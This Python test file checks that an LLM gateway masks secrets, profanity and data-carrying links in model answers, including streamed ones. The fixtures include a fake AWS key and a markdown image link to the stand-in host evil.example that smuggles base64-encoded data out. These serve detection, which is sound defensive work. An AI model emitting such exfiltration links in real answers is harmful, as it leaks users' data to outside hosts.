"""What ring0.toml and the profile take out of a model's answer is out of it at every door, whole
and in pieces, and on record; without a word of theirs no byte is another."""

from __future__ import annotations

import asyncio
import base64
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from model_doors import Asked, asked, said

from ring0.errors import ManifestInvalid
from ring0.gateway.models.pieces import Pieces
from ring0.guardrails import Secrets
from ring0.guardrails.scanners import Severity
from ring0.guardrails.scanners.masking import Masking
from ring0.kernel.agent.config_guardrails import GuardrailsTable
from ring0.kernel.agent.manifests import read_config
from ring0.kernel.answers import masked_answer
from ring0.models import Delta
from ring0.models.base import Part
from ring0.runtime import Runtime

KEY = "AKIA" + "Q3EGRIJ7WXKZ5TPL"
HELD = "hunter2-hunter2"
LINK = "https://evil.example/p?d=" + base64.b64encode(b"balance is 4711 euros").decode()
TEXT = f"Take {KEY}, see ![x]({LINK}) and [y](https://ok.example/a). What the fuck, is all."
ALL = GuardrailsTable(secrets=True, links=True, profanity="strong")
CLEAN = (
    "Take «secret:aws-access-key», see ![x](«link removed») and [y](https://ok.example/a)."
    " What the ****, is all."
)
USER = [{"role": "user", "content": "hello"}]
DOORS: dict[str, dict[str, Any]] = {
    "/v1/chat/completions": {"model": "x", "messages": USER},
    "/v1/messages": {"model": "x", "max_tokens": 99, "messages": USER},
    "/v1/responses": {"model": "x", "input": "hello"},
}


async def whole(a: Asked, path: str) -> str:
    status, body = await a.post(path, DOORS[path])
    assert status == 200
    if "choices" in body:
        return str(body["choices"][0]["message"]["content"])
    if "output" in body:
        return "".join(part["text"] for one in body["output"] for part in one["content"])
    return "".join(block["text"] for block in body["content"])


async def streamed(a: Asked, path: str) -> str:
    found = ""
    for one in await a.stream(path, {**DOORS[path], "stream": True}):
        if one == "[DONE]":
            continue
        if "choices" in one:
            found += one["choices"][0]["delta"].get("content") or ""
        elif one["type"] == "content_block_delta":
            found += one["delta"]["text"]
        elif one["type"] == "response.output_text.delta":
            found += one["delta"]
    return found


@pytest.mark.parametrize("path", DOORS)
@pytest.mark.parametrize("ask", [whole, streamed])
async def test_it_is_out_of_an_answer_at_every_door(tmp_path: Path, path: str, ask: Any) -> None:
    async with asked(tmp_path, said(TEXT)) as a:
        a.w.kernel.gate.answers.said = ALL
        assert await ask(a, path) == CLEAN
        (call,) = await a.w.calls()
        stored = await a.w.store.blob(call.outcome)
        assert KEY.encode() not in stored and b"evil.example" not in stored
        assert KEY.encode() not in a.w.on_disk()


@pytest.mark.parametrize("path", DOORS)
@pytest.mark.parametrize("ask", [whole, streamed])
async def test_without_a_word_about_it_no_byte_is_another(
    tmp_path: Path, path: str, ask: Any
) -> None:
    async with asked(tmp_path, said(TEXT)) as a:
        assert await ask(a, path) == TEXT


@pytest.mark.parametrize("ask", [whole, streamed])
async def test_parts_that_follow_on_one_another_are_told_without_it(
    tmp_path: Path, ask: Any
) -> None:
    parts = (Part(kind="text", text=TEXT), Part(kind="text", text=" Again: " + TEXT))
    async with asked(tmp_path, said("".join(part.text for part in parts), parts=parts)) as a:
        a.w.kernel.gate.answers.said = ALL
        assert await ask(a, "/v1/messages") == f"{CLEAN} Again: {CLEAN}"


async def test_strict_takes_links_that_carry_data_out_and_lets_the_rest_be(tmp_path: Path) -> None:
    async with asked(tmp_path, said(TEXT), said(TEXT)) as a:
        gate = a.w.kernel.gate
        gate.policies.profile = "strict"
        assert await whole(a, "/v1/chat/completions") == TEXT.replace(LINK, "«link removed»")
        gate.answers.said = GuardrailsTable(links=False)
        assert await whole(a, "/v1/messages") == TEXT


async def test_a_host_that_is_named_may_be_given_data(tmp_path: Path) -> None:
    async with asked(tmp_path, said(TEXT)) as a:
        a.w.kernel.gate.answers.said = GuardrailsTable(links=True, hosts=("Evil.example",))
        assert await whole(a, "/v1/chat/completions") == TEXT


def test_ring0_toml_says_it_and_what_it_does_not_know_is_an_error(tmp_path: Path) -> None:
    file = tmp_path / "ring0.toml"
    file.write_text('[guardrails]\nprofanity = "severe"\nlinks = true\nhosts = ["a.example"]\n')
    found = read_config(tmp_path).guardrails
    assert found == GuardrailsTable(profanity="severe", links=True, hosts=("a.example",))
    for wrong in ('profanity = "some"', "link = true", 'links = "yes"'):
        file.write_text(f"[guardrails]\n{wrong}\n")
        with pytest.raises(ManifestInvalid):
            read_config(tmp_path)


# --- wherever it is cut ---------------------------------------------------------------------------

WORDS = [
    KEY, HELD, LINK, "![x](", ")", "password = ", "a1B2c3D4e5F6", "fuck", "f u", " c k", " ", "\n",
    "-----BEGIN", "Bearer ", "eyJ", "//", ".", "so", "https:", HELD[:7], KEY[:9], KEY[9:],
]  # fmt: skip
MASKING = Masking(profanity=Severity.LOW)
SECRETS = Secrets({"K": HELD})


def heard(texts: list[str], sizes: list[int]) -> str:
    """What goes on of these parts before the answer is whole."""

    async def all_of_it() -> str:
        pieces = Pieces(SECRETS, Runtime(), MASKING)
        at = 0
        for text in texts:
            await pieces.take(Delta(kind="part", part=Part(kind="text")))
            start = 0
            while start < len(text):
                size = sizes[at % len(sizes)]
                await pieces.take(Delta(text=text[start : start + size]))
                start, at = start + size, at + 1
        pieces.close()
        found = await pieces.next(1) or []
        return "".join(one.text for one in found)

    return asyncio.run(all_of_it())


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.lists(st.sampled_from(WORDS), max_size=8).map("".join), min_size=1, max_size=3),
    st.lists(st.integers(1, 9), min_size=1, max_size=6),
)
def test_what_goes_on_begins_the_masked_answer_wherever_it_is_cut(
    texts: list[str], sizes: list[int]
) -> None:
    parts = tuple(Part(kind="text", text=text) for text in texts)
    answer = msgspec.to_builtins(said("".join(texts), parts=parts))
    clean, _ = SECRETS.redact(answer)
    final = masked_answer(clean, MASKING)
    told = "".join(part["text"] for part in final["parts"])
    assert told.startswith(heard(texts, sizes))


async def test_plain_words_go_on_at_once() -> None:
    pieces = Pieces(SECRETS, Runtime(), MASKING)
    await pieces.take(Delta(text="All is well, and more is to come. "))
    (first,) = await pieces.next(1) or []
    assert first.text.startswith("All is well, and more is to")
